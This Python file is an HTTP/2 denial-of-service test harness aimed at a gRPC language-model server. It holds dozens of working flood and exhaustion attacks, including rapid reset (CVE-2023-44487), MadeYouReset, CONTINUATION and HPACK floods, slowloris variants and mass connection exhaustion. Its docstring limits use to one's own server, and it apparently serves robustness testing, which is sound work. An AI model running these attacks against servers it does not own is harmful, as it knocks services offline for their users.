# SPDX-License-Identifier: Apache-2.0
"""Attacks a gRPC server with HTTP/2 frames that no well-behaved client sends.

    http2_attacks.py --target HOST:PORT --seconds 4 rapid_reset
    http2_attacks.py --list

An attack sends what it has to send until it is told to stop, opens a new
connection for each that the server closes, and prints what it did as one line
of JSON. It needs no token. Use it only against a server of your own.
"""

import argparse
import errno
import json
import random
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

import frames as h2
import messages as lm

# Attackers come from this address, so that limits per client spare others.
SOURCE = "127.0.0.66"

# Opens all windows as far as possible, so that flow control stops nothing.
OPEN_WINDOWS = (h2.PREFACE +
                h2.settings((h2.INITIAL_WINDOW_SIZE, h2.LARGEST_WINDOW)) +
                h2.window_update(0, h2.LARGEST_WINDOW - 65535))
START = h2.PREFACE + h2.settings()
MODEL = "en"
IP_BIND_ADDRESS_NO_PORT = 24


class Target:
  """Where an attack goes."""

  def __init__(self, address, tls=False, source=SOURCE):
    host, _, port = address.rpartition(":")
    self.address = (host.strip("[]"), int(port))
    self.tls = tls
    self.source = source if host.startswith("127.") else None
    self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    self.context.check_hostname = False
    self.context.verify_mode = ssl.CERT_NONE
    self.context.set_alpn_protocols(["h2"])

  def call(self, stream, path, extra=b"", end_stream=False):
    """Returns the HEADERS of a call."""
    return h2.headers(stream, h2.request_headers(path, extra, self.tls),
                      end_stream)

  def request(self, stream, path, request, end_stream=True):
    """Returns the frames of a call with one message."""
    return (self.call(stream, path) +
            data_frames(stream, h2.message(request), end_stream))


def data_frames(stream, payload, end_stream=False):
  """Returns DATA frames of at most 16 kB."""
  parts = [payload[i:i + 16384] for i in range(0, len(payload), 16384)] or [b""]
  return b"".join(
      h2.data(stream, part, end_stream and i == len(parts) - 1)
      for i, part in enumerate(parts))


class Flow:
  """A connection and the bytes that a script sends over it."""

  def __init__(self, target, script, tls):
    self.script = script
    self.pending = memoryview(b"")
    self.wake = 0.0
    self.started = self.finished = False
    self.reader = h2.FrameReader()
    self.state = "connecting"
    self.tls = target.context if tls else None
    family = socket.AF_INET6 if ":" in target.address[0] else socket.AF_INET
    self.socket = socket.socket(family, socket.SOCK_STREAM)
    self.socket.setblocking(False)
    self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if target.source:
      # The kernel chooses the port when it connects, so that many fit.
      self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
      self.socket.bind((target.source, 0))
    code = self.socket.connect_ex(target.address)
    if code not in (0, errno.EINPROGRESS):
      self.socket.close()
      raise OSError(code, "connect")

  def advance(self):
    """Continues to connect; returns whether the connection is open."""
    if self.state == "connecting":
      code = self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
      if code:
        raise OSError(code, "connect")
      if self.tls is None:
        self.state = "open"
        return True
      self.socket = self.tls.wrap_socket(
          self.socket, do_handshake_on_connect=False,
          server_hostname="localhost")
      self.state = "handshake"
    if self.state == "handshake":
      try:
        self.socket.do_handshake()
      except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False
      self.state = "open"
    return True


class Attack:
  """Runs scripts over many connections at once until the time is over.

  A script is a function of a Target and a number that yields what to do next on
  its connection: bytes to send, or a number of seconds to wait. Each yield
  returns the FrameReader of the connection. When the script ends, the
  connection stays open, silent, unless `close` is set.

  Attributes:
    counts: What was done, by name.
  """

  def __init__(self, target, until, connections, read=True, tls=None,
               close=False, reopen=True, half_close=False,
               opened_per_second=5000):
    self._target, self._until, self._wanted = target, until, connections
    self._read = read
    self._tls = target.tls if tls is None else tls
    self._close, self._reopen, self._half_close = close, reopen, half_close
    self._opened_per_second = opened_per_second
    self._flows, self._selector = {}, selectors.DefaultSelector()
    self._frames = {}
    self.counts = dict(opened=0, closed_by_server=0, connect_errors=0,
                       open_at_end=0, sent_bytes=0, received_bytes=0)

  def run(self, script):
    begin = time.monotonic()
    allowed = self._opened_per_second
    serial = 0
    while (now := time.monotonic()) < self._until:
      may_open = int((now - begin + 0.02) * allowed) - serial
      for _ in range(min(may_open, 200, self._wanted - len(self._flows))):
        if not self._reopen and serial >= self._wanted:
          break
        self._open(script, serial)
        serial += 1
      self._serve()
    self.counts["open_at_end"] = len(self._flows)
    for flow in list(self._flows.values()):
      self._drop(flow, False)
    self.counts["frames"] = self._frames
    return self.counts

  def _open(self, script, serial):
    try:
      flow = Flow(self._target, script(self._target, serial), self._tls)
    except OSError:
      self.counts["connect_errors"] += 1
      return
    self._flows[flow.socket.fileno()] = flow
    self._selector.register(flow.socket, selectors.EVENT_WRITE, flow)
    self.counts["opened"] += 1

  def _drop(self, flow, by_server):
    for name, count in flow.reader.counts.items():
      self._frames[name] = self._frames.get(name, 0) + count
    try:
      self._selector.unregister(flow.socket)
    except (KeyError, ValueError):
      pass
    self._flows.pop(flow.socket.fileno(), None)
    flow.socket.close()
    self.counts["closed_by_server"] += by_server

  def _watch(self, flow):
    """Registers the events that the flow waits for."""
    events = selectors.EVENT_READ if self._read or flow.state != "open" else 0
    if flow.state == "connecting" or flow.pending or (
        flow.wake == 0 and not flow.finished):
      events |= selectors.EVENT_WRITE
    try:
      self._selector.unregister(flow.socket)
    except KeyError:
      pass
    if events:
      self._selector.register(flow.socket, events, flow)

  def _serve(self):
    now = time.monotonic()
    for flow in list(self._flows.values()):
      if flow.wake and flow.wake <= now:
        flow.wake = 0
        self._watch(flow)
    for key, events in self._selector.select(0.01):
      flow = key.data
      try:
        if flow.state != "open":
          old = flow.socket.fileno()
          if not flow.advance():
            self._selector.unregister(key.fileobj)
            self._flows.pop(old, None)
            self._flows[flow.socket.fileno()] = flow
            self._selector.register(flow.socket, selectors.EVENT_READ, flow)
            continue
          if key.fileobj is not flow.socket:
            self._selector.unregister(key.fileobj)
          self._watch(flow)
        if events & selectors.EVENT_READ and self._read:
          received = flow.socket.recv(1 << 18)
          if not received:
            self._drop(flow, True)
            continue
          self.counts["received_bytes"] += len(received)
          flow.reader.feed(received)
        if events & selectors.EVENT_WRITE:
          self._send(flow)
      except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        pass
      except (OSError, ValueError):
        if flow.state == "connecting":
          self.counts["connect_errors"] += 1
        self._drop(flow, flow.state == "open")

  def _send(self, flow):
    for _ in range(8):
      if not flow.pending:
        if flow.finished or flow.wake:
          break
        try:
          step = flow.script.send(flow.reader if flow.started else None)
        except StopIteration:
          step = None
        flow.started = True
        if step is None:
          flow.finished = True
          if self._half_close:
            flow.socket.shutdown(socket.SHUT_WR)
          if self._close:
            self._drop(flow, False)
            return
        elif isinstance(step, bytes):
          flow.pending = memoryview(step)
        else:
          flow.wake = time.monotonic() + step
        continue
      sent = flow.socket.send(flow.pending)
      self.counts["sent_bytes"] += sent
      flow.pending = flow.pending[sent:]
    if not flow.pending and (flow.finished or flow.wake):
      self._watch(flow)


ATTACKS = {}


def attack(**options):
  """Makes an attack of a script; options are those of Attack."""

  def register(script):
    def run(target, until):
      return Attack(target, until, **options).run(script)
    run.__doc__ = script.__doc__
    ATTACKS[script.__name__] = run
    return script

  return register


def streams(first=1):
  """Yields the numbers of a client's streams."""
  return range(first, 2**31 - 1, 2)


def batches(write, count=200):
  """Yields the bytes of write(stream), `count` streams at a time."""
  batch = []
  for stream in streams():
    batch.append(write(stream))
    if len(batch) == count:
      yield b"".join(batch)
      batch.clear()


# ---- Streams that come and go.


@attack(connections=8)
def rapid_reset(target, _):
  """Opens streams and resets each at once (CVE-2023-44487)."""
  yield START
  call = h2.request_headers(lm.SCORE, tls=target.tls)
  yield from batches(
      lambda stream: h2.headers(stream, call) + h2.reset(stream))


@attack(connections=8)
def rapid_reset_of_calls(target, _):
  """Resets complete calls, so that the server has work to throw away."""
  yield START
  request = lm.score_request(MODEL, ["the cat is small ."] * 50)
  yield from batches(
      lambda stream: target.request(stream, lm.SCORE, request) +
      h2.reset(stream), 20)


@attack(connections=8)
def made_you_reset(target, _):
  """Makes the server reset the streams (CVE-2025-8671)."""
  yield START
  request = lm.score_request(MODEL, ["the cat is small ."])
  yield from batches(
      lambda stream: target.request(stream, lm.SCORE, request) +
      h2.window_update(stream, 0))


@attack(connections=400)
def rapid_reset_of_many(target, _):
  """Opens and resets streams at a moderate rate on each of 400 connections."""
  yield START
  call = h2.request_headers(lm.SCORE, tls=target.tls)
  for step in batches(
      lambda stream: h2.headers(stream, call) + h2.reset(stream), 50):
    yield step
    yield 0.02


@attack(connections=8)
def headers_of_closed_streams(target, _):
  """Sends headers for streams that were reset before, and for even numbers."""
  call = h2.request_headers(lm.SCORE, tls=target.tls)
  yield START + h2.headers(9, call) + h2.reset(9)
  yield from flood(h2.headers(1, call) + h2.headers(9, call) +
                   h2.headers(2, call))


# ---- Streams that stay.


@attack(connections=100)
def headers_within_limit(target, _):
  """Opens 100 calls on each of 100 connections and sends no request."""
  yield START
  yield b"".join(target.call(stream, lm.SCORE) for stream in range(1, 200, 2))


@attack(connections=4)
def headers_above_limit(target, _):
  """Opens calls without end and sends no request."""
  yield START
  yield from batches(lambda stream: target.call(stream, lm.SCORE))


@attack(connections=100)
def headers_to_limit(target, _):
  """Opens 1000 calls on each of 100 connections and sends no request."""
  yield START
  for begin in range(1, 2000, 200):
    yield b"".join(target.call(stream, lm.SCORE)
                   for stream in range(begin, begin + 200, 2))


@attack(connections=100, read=False)
def answers_with_window_0(target, _):
  """Asks for long answers and gives them no window."""
  yield h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
  request = lm.score_request(MODEL, ["the cat is small . " * 100] * 10, True)
  yield from batches(
      lambda stream: target.request(stream, lm.SCORE, request), 1)


@attack(connections=100, read=False)
def answers_not_read(target, _):
  """Asks for long answers, with all windows open, and does not read."""
  yield OPEN_WINDOWS
  request = lm.score_request(MODEL, ["the cat is small . " * 100] * 10, True)
  yield from batches(
      lambda stream: target.request(stream, lm.SCORE, request), 1)


@attack(connections=50)
def silent_decode(target, _):
  """Opens Decode streams, starts a model in each, and says no more."""
  yield START
  yield from batches(
      lambda stream: target.request(stream, lm.DECODE, lm.decode_start(MODEL),
                                    False), 50)


@attack(connections=50)
def silent_streams(target, _):
  """Opens Decode and ScoreStream without a message."""
  yield START
  yield from batches(
      lambda stream: target.call(stream, lm.DECODE) +
      target.call(stream + 2, lm.SCORE_STREAM) if stream % 4 == 1 else b"", 50)


@attack(connections=50, read=False)
def silent_generate_readers(target, _):
  """Asks for long texts, one word a message, and reads none of them."""
  yield OPEN_WINDOWS
  request = lm.greedy_request(MODEL, "", 10000)
  yield from batches(
      lambda stream: target.request(stream, lm.GENERATE, request), 20)


@attack(connections=50)
def reflection_streams(target, _):
  """Opens streams of reflection, which need no token, and keeps them."""
  yield START
  yield from batches(
      lambda stream: target.request(stream, lm.REFLECTION,
                                    lm.reflection_request(), False), 50)


@attack(connections=50, read=False)
def reflection_not_read(target, _):
  """Asks reflection for more and more answers and reads none."""
  yield START
  ask = h2.message(lm.text_field(4, "lm.v1.LanguageModelService")) * 500
  numbers = range(1, 64, 2)
  yield b"".join(target.call(stream, lm.REFLECTION) for stream in numbers)
  while True:
    for stream in numbers:
      yield data_frames(stream, ask)


@attack(connections=50)
def health_watches(target, number):
  """Watches the health of ever new services, which needs no token."""
  yield START
  yield from batches(
      lambda stream: target.request(
          stream, lm.HEALTH_WATCH,
          lm.health_request(f"{number}.{stream}." + "x" * 200)), 50)


@attack(connections=8)
def health_checks(target, _):
  """Asks for the health as fast as possible, which needs no token."""
  yield OPEN_WINDOWS
  yield from batches(
      lambda stream: target.request(stream, lm.HEALTH_CHECK, b""))


# ---- Connections.


@attack(connections=20000)
def connections_idle(_target, _):
  """Connects and sends nothing."""
  yield 3600


@attack(connections=20000)
def connections_after_preface(_target, _):
  """Connects and sends nothing after the preface and the settings."""
  yield START


@attack(connections=20000)
def connections_half_frame(_target, _):
  """Connects and sends half a frame."""
  yield START + h2.headers(1, b"\x83" * 1000)[:100]


@attack(connections=20000, tls=False)
def connections_half_handshake(target, _):
  """Sends half of the first message of a TLS handshake."""
  yield half_hello(target)


@attack(connections=500, close=True)
def connections_opened_and_closed(_target, _):
  """Connects, sends the preface and closes, as fast as possible."""
  yield START


@attack(connections=200, close=True, tls=False)
def handshakes_opened_and_closed(target, _):
  """Sends the first message of TLS and closes, as fast as possible."""
  yield hello(target)


@attack(connections=4, close=True)
def reconnecting_flood(_target, _):
  """Sends pings, closes, and comes back as if it had not been there."""
  yield START + h2.frame(h2.PING, 0, 0, b"01234567") * 1900


@attack(connections=500, half_close=True)
def half_closed(target, _):
  """Closes its direction after the calls, and waits."""
  yield START + b"".join(
      target.call(stream, lm.DECODE) for stream in range(1, 40, 2))


@attack(connections=8)
def http1(_target, _):
  """Sends requests of HTTP/1.1."""
  while True:
    yield b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100


def hello(target):
  """Returns the first message of a TLS handshake."""
  incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
  handshake = target.context.wrap_bio(incoming, outgoing,
                                      server_hostname="localhost")
  try:
    handshake.do_handshake()
  except ssl.SSLWantReadError:
    pass
  return outgoing.read()


def half_hello(target):
  first = hello(target)
  return first[:len(first) // 2]


# ---- Headers.


def endless_block(target, part):
  yield START + h2.headers(
      1, h2.request_headers(lm.SCORE, tls=target.tls), end_headers=False)
  chunk = h2.continuation(1, part)
  chunk *= max(1, 65536 // len(chunk))
  while True:
    yield chunk


@attack(connections=8)
def continuation_small(target, _):
  """Sends CONTINUATION frames of one small header without END_HEADERS."""
  return endless_block(target, h2.literal(b"a", b"b"))


@attack(connections=8)
def continuation_16k(target, _):
  """Sends CONTINUATION frames of 16 kB without END_HEADERS."""
  return endless_block(target, h2.literal(b"a", b"b" * 16370))


@attack(connections=8)
def continuation_empty(target, _):
  """Sends empty CONTINUATION frames without END_HEADERS."""
  return endless_block(target, b"")


def huge_literal(target, name, step, pause):
  """Declares a string of 2 GB, the name or the value, and begins to send it."""
  string = h2.integer(2**31 - 2, 7)
  start = (b"\x00" if name else b"\x00" + h2.string(b"a")) + string
  yield START + h2.headers(
      1, h2.request_headers(lm.SCORE, tls=target.tls) + start,
      end_headers=False)
  chunk = h2.continuation(1, b"b" * step)
  if not pause:
    chunk *= max(1, 65536 // len(chunk))
  while True:
    yield chunk
    if pause:
      yield pause


@attack(connections=8)
def hpack_literal_fast(target, _):
  """Declares a header value of 2 GB and sends it fast."""
  return huge_literal(target, False, 16384, 0)


@attack(connections=100)
def hpack_literal_slow(target, _):
  """Declares header values of 2 GB and sends them slowly."""
  return huge_literal(target, False, 100, 0.02)


@attack(connections=8)
def hpack_literal_bytes(target, _):
  """Declares a header value of 2 GB and sends it byte by byte, fast."""
  return huge_literal(target, False, 1, 0)


@attack(connections=8)
def hpack_name_fast(target, _):
  """Declares a header name of 2 GB and sends it fast."""
  return huge_literal(target, True, 16384, 0)


@attack(connections=8)
def hpack_padded_integers(target, _):
  """Writes the length of a string with ever more zeros."""
  yield START + h2.headers(
      1, h2.request_headers(lm.SCORE, tls=target.tls) +
      b"\x00" + h2.string(b"a") + b"\x7f", end_headers=False)
  chunk = h2.continuation(1, b"\x80" * 16000)
  while True:
    yield chunk


@attack(connections=8)
def hpack_table_sizes(target, _):
  """Changes the size of the header table thousands of times a request."""
  yield START
  block = h2.table_size(0) + h2.table_size(4096)
  call = block * 2 + h2.request_headers(lm.SCORE, tls=target.tls)
  many = block * 2000 + h2.request_headers(lm.SCORE, tls=target.tls)
  yield from batches(
      lambda stream: h2.headers(stream, many if stream % 20 == 1 else call) +
      h2.reset(stream), 20)


@attack(connections=8)
def hpack_settings(target, _):
  """Changes the size of the server's own header table with each call."""
  yield START
  call = h2.request_headers(lm.HEALTH_CHECK, tls=target.tls)
  yield from batches(
      lambda stream: h2.settings(
          (h2.HEADER_TABLE_SIZE, 2**32 - 1 if stream % 4 == 1 else 0)) +
      h2.headers(stream, call) + h2.data(stream, h2.message(b""), True), 50)


@attack(connections=8)
def hpack_bomb(target, _):
  """Repeats one header of 4 kB, one byte each, thousands of times a call."""
  yield START + h2.headers(
      1, h2.request_headers(lm.SCORE, tls=target.tls) +
      h2.literal(b"x", b"y" * 4000, True))
  block = h2.request_headers(lm.SCORE, tls=target.tls) + h2.index(62) * 16000
  for stream in streams(3):
    yield h2.headers(stream, block)


@attack(connections=8)
def huge_headers(target, _):
  """Sends headers of 160 kB with each call."""
  yield START
  part = h2.literal(b"a", b"b" * 16300)
  for stream in streams():
    yield (h2.headers(stream, h2.request_headers(lm.SCORE, tls=target.tls),
                      end_headers=False) +
           h2.continuation(stream, part) * 9 +
           h2.continuation(stream, part, True))


@attack(connections=50)
def many_headers(target, _):
  """Opens calls with as many headers as are allowed and holds them."""
  extra = b"".join(h2.literal(b"k%d" % i, b"v" * 20) for i in range(100))
  yield START
  yield from batches(
      lambda stream: target.call(stream, lm.SCORE, extra), 20)


@attack(connections=8)
def trailers_without_end(target, _):
  """Sends a call's trailers again and again."""
  yield START + target.call(1, lm.SCORE)
  trailers = h2.headers(1, h2.literal(b"x-a", b"b" * 1000)) * 60
  while True:
    yield trailers


@attack(connections=8)
def huge_paths(target, _):
  """Calls methods that do not exist, with names of 7 kB, all different."""
  yield START
  yield from batches(
      lambda stream: target.request(
          stream, "/lm.v1." + "x" * 7000 + str(stream), b""), 20)


@attack(connections=8)
def huge_metadata(target, number):
  """Sends calls whose tokens, names and ids are 7 kB long, all different."""
  yield START
  yield from batches(
      lambda stream: target.call(
          stream, lm.SCORE,
          h2.literal(b"x-request-id",
                     b"%d.%d" % (number, stream) + b"\x1b" * 6000)) +
      h2.data(stream, h2.message(b""), True), 20)


# ---- Frames that carry nothing.


def flood(chunk):
  chunk *= max(1, 65536 // len(chunk))
  while True:
    yield chunk


@attack(connections=8)
def settings_flood(_target, _):
  """Sends SETTINGS, which must be acknowledged."""
  yield START
  yield from flood(h2.settings((h2.INITIAL_WINDOW_SIZE, 65535)))


@attack(connections=8)
def settings_windows(target, _):
  """Changes the windows of a thousand streams with each SETTINGS."""
  yield START + b"".join(
      target.call(stream, lm.DECODE) for stream in range(1, 2000, 2))
  yield from flood(h2.settings((h2.INITIAL_WINDOW_SIZE, 0)) +
                   h2.settings((h2.INITIAL_WINDOW_SIZE, 65535)))


@attack(connections=8)
def ping_flood(_target, _):
  """Sends PING, which must be answered."""
  yield START
  yield from flood(h2.frame(h2.PING, 0, 0, b"01234567"))


@attack(connections=8, read=False)
def ping_flood_not_read(_target, _):
  """Sends PING and SETTINGS and does not read the answers."""
  yield START
  yield from flood(h2.frame(h2.PING, 0, 0, b"01234567") + h2.settings())


@attack(connections=8)
def priority_flood(_target, _):
  """Sends PRIORITY for ever new streams."""
  yield START
  priority = struct.pack(">IB", 0, 10)
  yield from batches(
      lambda stream: h2.frame(h2.PRIORITY, 0, stream, priority), 2000)


@attack(connections=8)
def window_update_flood(target, _):
  """Sends WINDOW_UPDATE for the connection and for a stream."""
  yield START + target.call(1, lm.DECODE)
  yield from flood(h2.window_update(1, 1) + h2.frame(h2.WINDOW_UPDATE, 0, 1,
                                                     b"\0\0\0\1"))


@attack(connections=8)
def empty_data_flood(target, _):
  """Sends empty DATA frames."""
  yield START + target.call(1, lm.DECODE)
  yield from flood(h2.data(1, b""))


@attack(connections=8)
def padding_flood(target, _):
  """Sends DATA frames of padding only."""
  yield START + target.call(1, lm.DECODE)
  yield from flood(h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + b"\0" * 255))


@attack(connections=8)
def empty_messages(target, _):
  """Sends empty messages over a Decode stream."""
  yield START + target.request(1, lm.DECODE, lm.decode_start(MODEL), False)
  yield from flood(h2.data(1, h2.message(b"") * 1000))


@attack(connections=8)
def unknown_frames(_target, _):
  """Sends frames of unknown types."""
  yield START
  yield from flood(h2.frame(0xfe, 0xff, 0, b"x" * 1000))


@attack(connections=8)
def goaway_flood(_target, _):
  """Sends GOAWAY with long reasons."""
  yield START
  yield from flood(h2.frame(h2.GOAWAY, 0, 0,
                            struct.pack(">II", 0, 0) + b"x" * 8000))


# ---- Frames that make no sense.


@attack(connections=16)
def random_frames(target, number):
  """Sends frames with random types, flags, lengths and contents."""
  random_ = random.Random(number)
  yield START + target.call(1, lm.DECODE)
  for _ in range(random_.randrange(1, 200)):
    body = random_.randbytes(random_.choice([0, 1, 4, 5, 6, 8, 9, 200]))
    yield h2.frame(random_.randrange(12), random_.randrange(256),
                   random_.choice([0, 1, 2, 3, 5, 2**31 - 1]), body)
  # A server that has not closed the connection yet reads the rest as a frame.
  yield h2.frame(h2.DATA, 0, 1, bytes(100))[:50]
  yield from flood(b"\xff" * 1000)


@attack(connections=16)
def random_headers(target, number):
  """Sends calls with some random bytes in their header blocks."""
  random_ = random.Random(number)
  yield START
  for stream in streams():
    block = bytearray(h2.request_headers(
        lm.SCORE, h2.literal(b"x-a", b"y" * 50, True), target.tls))
    for _ in range(random_.randrange(4)):
      block[random_.randrange(len(block))] = random_.randrange(256)
    yield h2.headers(stream, bytes(block), True)


@attack(connections=16)
def random_messages(target, number):
  """Sends valid calls with random bytes in their messages."""
  random_ = random.Random(number)
  yield START
  requests = [(lm.SCORE, lm.score_request(MODEL, ["the cat is small ."], True)),
              (lm.PREDICT, lm.predict_request(MODEL, ["the cat"], 5)),
              (lm.RERANK, lm.rerank_request(MODEL, ["the cat", "a cat"])),
              (lm.GENERATE, lm.generate_request(MODEL, 10, 7)),
              (lm.DECODE, lm.decode_start(MODEL, ["the"])),
              (lm.REFLECTION, lm.reflection_request()),
              (lm.HEALTH_CHECK, lm.health_request("en"))]
  for stream in streams():
    path, request = random_.choice(requests)
    message = bytearray(h2.message(request))
    for _ in range(random_.randrange(3)):
      message[random_.randrange(len(message))] = random_.randrange(256)
    yield target.call(stream, path) + h2.data(stream, bytes(message), True)
    if stream % 100 == 1:
      yield 0.01


# ---- Messages.


@attack(connections=50)
def announced_messages(target, _):
  """Announces messages of 15 MB on many streams and sends none of them."""
  yield START
  announced = h2.message(b"x", 15 << 20)
  yield from batches(
      lambda stream: target.call(stream, lm.SCORE) + h2.data(stream, announced),
      20)


@attack(connections=50)
def announced_64_mb(target, _):
  """Announces messages of 64 MB on many streams and sends none of them."""
  yield START
  announced = h2.message(b"x", 64 << 20)
  yield from batches(
      lambda stream: target.call(stream, lm.SCORE) + h2.data(stream, announced),
      20)


@attack(connections=50)
def half_messages(target, _):
  """Sends as much of messages of 15 MB as the windows allow, and no end."""
  yield START
  start = h2.message(b"x", 15 << 20)
  for stream in range(1, 1000, 2):
    yield target.call(stream, lm.SCORE) + h2.data(stream, start)
    yield data_frames(stream, b"x" * 65000)
    yield 0.001


@attack(connections=8)
def messages_fed(target, _):
  """Sends messages of 15 MB as far as the windows grow, and no end of them."""
  reader = yield START
  size = 15 << 20
  sent, total = {}, 0
  numbers = range(1, 200, 2)
  for stream in numbers:
    start = h2.message(b"x", size)
    reader = yield target.call(stream, lm.SCORE) + h2.data(stream, start)
    sent[stream] = len(start)
    total += len(start)
  while True:
    progress = False
    for stream in numbers:
      room = min(65535 + reader.windows.get(stream, 0) - sent[stream],
                 65535 + reader.windows.get(0, 0) - total,
                 size - 1 - sent[stream], 16384)
      if room > 0:
        reader = yield h2.data(stream, b"x" * room)
        sent[stream] += room
        total += room
        progress = True
    if not progress:
      reader = yield 0.01


@attack(connections=8)
def messages_in_single_bytes(target, _):
  """Sends parts of messages as DATA frames of one byte, and no end of them."""
  reader = yield START
  total = 0
  for stream in range(1, 1000, 2):
    start = h2.message(b"x", 1 << 20)
    yield target.call(stream, lm.SCORE) + h2.data(stream, start)
    total += len(start) + 60000
    for _ in range(60):
      reader = yield h2.data(stream, b"x") * 1000
    while total > reader.windows.get(0, 0):
      reader = yield 0.01


@attack(connections=8)
def unread_messages(target, number):
  """Sends short messages to streams that read one, and much between them."""
  reader = yield START
  short = h2.message(lm.text_field(1, "x" * 11))
  much = h2.message(lm.text_field(15, "x" * 16100))
  stream, total = 1, 0
  while True:
    watch = stream
    first = h2.message(lm.health_request(f"{number}.{watch}"))
    yield target.call(watch, lm.HEALTH_WATCH) + h2.data(watch, first)
    total += len(first)
    for _ in range(65000 // len(short)):
      stream += 2
      reader = yield (h2.data(watch, short) +
                      target.call(stream, lm.HEALTH_CHECK) +
                      h2.data(stream, much, True))
      total += len(short) + len(much)
      while total + 17000 > 65535 + reader.windows.get(0, 0):
        reader = yield 0.005
    stream += 2


@attack(connections=100)
def data_after_end(target, number):
  """Sends empty DATA frames that end a stream which has ended."""
  yield START + target.request(1, lm.HEALTH_WATCH,
                               lm.health_request(str(number)))
  yield from flood(h2.data(1, b"", True))


@attack(connections=8)
def half_messages_past_windows(target, _):
  """Sends messages of 15 MB without minding the windows, and no end."""
  yield START
  start = h2.message(b"x", 15 << 20)
  body = b"x" * 16384
  for stream in streams():
    yield target.call(stream, lm.SCORE) + h2.data(stream, start)
    for _ in range(900):
      yield h2.data(stream, body)


# ---- Valid calls, too many of them.


@attack(connections=50)
def score_flood(target, _):
  """Scores short texts as fast as possible."""
  yield OPEN_WINDOWS
  request = lm.score_request(MODEL, ["the cat is small ."])
  yield from batches(
      lambda stream: target.request(stream, lm.SCORE, request), 100)


@attack(connections=20)
def large_score_flood(target, _):
  """Scores 10,000 words a call as fast as possible."""
  yield OPEN_WINDOWS
  # As much as the windows of a stream allow.
  request = lm.score_request(MODEL, ["the cat is small . " * 2000])
  yield from batches(
      lambda stream: target.request(stream, lm.SCORE, request), 1)


@attack(connections=50)
def generate_flood(target, _):
  """Generates texts of 10,000 words as fast as possible."""
  yield OPEN_WINDOWS
  yield from batches(
      lambda stream: target.request(
          stream, lm.GENERATE,
          lm.generate_request(MODEL, 10000, stream)), 20)


@attack(connections=50)
def beam_flood(target, _):
  """Asks for wide beam searches, whose requests are small, without end."""
  yield OPEN_WINDOWS
  request = lm.beam_request(MODEL, 10000, 100)
  yield from batches(
      lambda stream: target.request(stream, lm.GENERATE, request), 20)


# ---- Slow loris: bytes that come so slowly that no timeout between them ends.


def slowly(frames_, pause=0.2):
  for byte in frames_:
    yield bytes([byte])
    yield pause


@attack(connections=5000)
def loris_preface(_target, _):
  """Sends the preface byte by byte."""
  return slowly(START)


@attack(connections=2000)
def loris_headers(target, _):
  """Sends headers byte by byte."""
  yield START
  yield from slowly(target.call(1, lm.SCORE) * 10)


@attack(connections=2000)
def loris_data(target, _):
  """Sends a request byte by byte."""
  yield START + target.call(1, lm.SCORE)
  for byte in h2.message(lm.score_request(MODEL, ["the cat"]), 1 << 20) * 10:
    yield h2.data(1, bytes([byte]))
    yield 0.2


@attack(connections=2000)
def loris_window(target, _):
  """Takes an answer byte by byte."""
  yield h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0))
  yield target.request(
      1, lm.SCORE,
      lm.score_request(MODEL, ["the cat is small . " * 100] * 10, True))
  while True:
    yield h2.window_update(1, 1)
    yield 0.2


@attack(connections=2000, tls=False)
def loris_handshake(target, _):
  """Sends the first message of TLS byte by byte."""
  return slowly(hello(target))


def run_attack(name, target, seconds):
  """Runs an attack for some seconds and returns what it did."""
  if name == "none":
    time.sleep(seconds)
    return {}
  return ATTACKS[name](target, time.monotonic() + seconds)


def allow_descriptors():
  """Raises the limit of file descriptors as far as permitted."""
  _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
  resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
  parser = argparse.ArgumentParser(
      description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
  parser.add_argument("--target", help="HOST:PORT of the server")
  parser.add_argument("--tls", action="store_true", help="the server has TLS")
  parser.add_argument("--seconds", type=float, default=4)
  parser.add_argument("--list", action="store_true", help="list the attacks")
  parser.add_argument("attack", nargs="?", metavar="ATTACK",
                      choices=[*ATTACKS, "none"])
  arguments = parser.parse_args()
  if arguments.list:
    for name, function in ATTACKS.items():
      print(f"{name:32}{function.__doc__}")
    return 0
  if not arguments.target or not arguments.attack:
    parser.error("expected --target and an attack")
  allow_descriptors()
  print(json.dumps(run_attack(arguments.attack,
                              Target(arguments.target, arguments.tls),
                              arguments.seconds)))
  return 0


if __name__ == "__main__":
  sys.exit(main())
